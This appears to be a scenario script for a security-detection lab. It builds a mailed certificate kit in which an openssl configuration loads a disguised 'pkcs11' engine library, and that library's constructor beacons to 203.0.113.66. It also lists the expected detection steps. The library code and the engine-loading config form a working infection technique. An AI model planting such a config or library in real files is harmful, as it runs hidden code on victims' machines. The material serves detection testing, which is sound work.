title="A certificate request's configuration that loads a library"
what="buyer saves ca-kit.tgz with mutt, unpacks it in ~/cert and makes a certificate request with openssl req -config ca.cnf as the letter asks. The configuration names an engine, lib/pkcs11.so, which openssl loads; its constructor connects to 203.0.113.66. No program of the archive is started."
host=mx1.example.org user=buyer daemons="cron sshd" store=mbox
setup() {
  mkdir -p "$base/out/c/ca-kit/lib"
  cat > "$base/out/e.c" <<'P'
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void start(void) {
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80) }; int s = socket(AF_INET, SOCK_STREAM, 0);
  inet_pton(AF_INET, "203.0.113.66", &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0 && write(s, "GET /e HTTP/1.0\r\n\r\n", 19) > 0) usleep(200000);
  close(s);
}
P
  cc -shared -fPIC -o "$base/out/c/ca-kit/lib/pkcs11.so" "$base/out/e.c"
  printf 'openssl_conf = init\n[init]\nengines = engines\n[engines]\npkcs11 = p11\n[p11]\nengine_id = pkcs11\ndynamic_path = ./lib/pkcs11.so\ninit = 0\n[req]\nprompt = no\ndistinguished_name = dn\n[dn]\nCN = shop.example.org\nO = Example\n' > "$base/out/c/ca-kit/ca.cnf"
  tar -C "$base/out/c" -czf "$base/out/ca-kit.tgz" ca-kit
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/buyer/.muttrc; chown buyer: /home/buyer/.muttrc
}
act() {
  small_talk 2
  mail_in --from ca@example.com --to buyer@example.org --subject "Renew your shop's certificate" --source 203.0.113.25 --helo smtp.example.com --text "Unpack, then: openssl req -config ca.cnf -newkey rsa:2048 -nodes -keyout k.pem -out shop.csr\n" --attach "$base/out/ca-kit.tgz:application/gzip"
  wait_mail buyer 1
  ssh_as buyer <<'L'
%saves mutt
mkdir cert; tar -C cert -xzf ca-kit.tgz
cd cert/ca-kit; cat ca.cnf
openssl req -config ca.cnf -newkey rsa:2048 -nodes -keyout k.pem -out shop.csr
%sleep 1
ls -l
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'delivered'
  file_step save 'mutt open(at)?:write CREATE .*ca-kit.tgz' 'saved'
  exec_step unpack 'tar -C cert -xzf ca-kit.tgz' 'unpacked'
  exec_step execute 'openssl req -config ca.cnf' 'openssl reads the configuration'
  file_step library 'openssl open(at)?:read NORMAL .*pkcs11.so' 'and loads the library'
  net_step beacon 'openssl 203.0.113.66:80' 'which calls out'
}
